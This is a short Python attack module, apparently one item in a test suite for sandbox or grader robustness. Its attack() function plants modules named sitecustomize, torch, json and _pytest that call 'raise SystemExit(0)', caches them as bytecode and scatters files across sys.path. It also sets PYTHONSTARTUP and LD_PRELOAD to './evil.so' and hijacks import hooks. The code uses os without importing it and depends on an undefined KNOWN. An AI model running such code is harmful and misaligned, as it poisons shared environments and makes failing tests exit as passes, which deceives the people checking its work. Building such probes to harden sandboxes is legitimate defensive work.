"""Leave modules where later imports would look: the folder, bytecode, site-packages."""

import py_compile
import sys

CLASS = "lingering"
GAINS = ("write",)

POISON = "raise SystemExit(0)  # " + KNOWN["token"]


def attack():
    for name in ("sitecustomize", "usercustomize", "torch", "json", "course", "_pytest"):
        with open(f"{name}.py", "w") as file:
            file.write(POISON)
    os.makedirs("__pycache__", exist_ok=True)
    py_compile.compile("torch.py", doraise=False)
    for place in [*KNOWN["places"], *(path for path in sys.path if os.path.isdir(path))]:
        try:
            with open(f"{place}/{KNOWN['token']}.txt", "w") as file:
                file.write("a module, if it were called so")
        except OSError:
            pass
    os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="torch.py", LD_PRELOAD="./evil.so")
    sys.path.insert(0, os.getcwd())
    sys.path_hooks.insert(0, lambda path: None)
